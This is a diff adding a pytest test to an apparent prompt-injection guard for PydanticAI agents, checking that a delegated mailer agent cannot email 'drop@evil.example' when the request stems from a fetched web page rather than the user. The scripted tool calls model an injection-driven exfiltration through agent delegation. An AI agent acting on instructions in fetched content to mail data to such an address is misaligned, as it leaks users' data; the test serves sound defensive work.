@@ -70,6 +70,53 @@ def test_a_page_recipient_is_refused_and_the_users_own_passes(
     assert trusted_inputs(history, "pa-1") == 2  # system + user, each once over 3 requests
 
 
+@pytest.mark.parametrize(
+    ("request_text", "sent"),
+    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
+)
+def test_an_agent_a_tool_delegates_to_gets_the_models_words_not_the_users(
+    request_text: str, sent: bool
+) -> None:
+    """PydanticAI's agent delegation: a tool runs another agent with a prompt the
+    calling model wrote, after it read the page."""
+    guard, history = guarded("pa-2")
+    ran: list[str] = []
+    helper = _agent(guard, "drop@evil.example", ran, instructions=True)
+    helper_turns = [
+        ModelResponse(
+            parts=[ToolCallPart("send_email", {"to": "drop@evil.example", "body": "hi"}, "h1")]
+        ),
+        ModelResponse(parts=[TextPart("ok")]),
+    ]
+    helper_model = FunctionModel(lambda messages, info: helper_turns.pop(0))
+    parent_turns = [
+        ModelResponse(parts=[ToolCallPart("fetch_url", {"url": "https://blog.example"}, "p1")]),
+        ModelResponse(parts=[ToolCallPart("mailer", {"task": "mail drop@evil.example"}, "p2")]),
+        ModelResponse(parts=[TextPart("done")]),
+    ]
+    parent: Agent[None, str] = Agent(
+        FunctionModel(lambda messages, info: parent_turns.pop(0)),
+        capabilities=[InterlockCapability(guard)],
+        instructions=SYSTEM,
+    )
+
+    @parent.tool_plain
+    def fetch_url(url: str) -> str:
+        """Fetch a page."""
+        ran.append("fetch_url")
+        return PAGE
+
+    @parent.tool_plain
+    async def mailer(task: str) -> str:
+        """Ask the mailer agent."""
+        return (await helper.run(task, model=helper_model)).output
+
+    parent.run_sync(request_text)
+    assert "fetch_url" in ran
+    assert ("send_email:drop@evil.example" in ran) is sent
+    assert trusted_inputs(history, "pa-2") == 2  # the parent's: nothing of the helper's run
+
+
 def test_a_guard_without_sessions_records_nothing() -> None:
     guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
     ran: list[str] = []
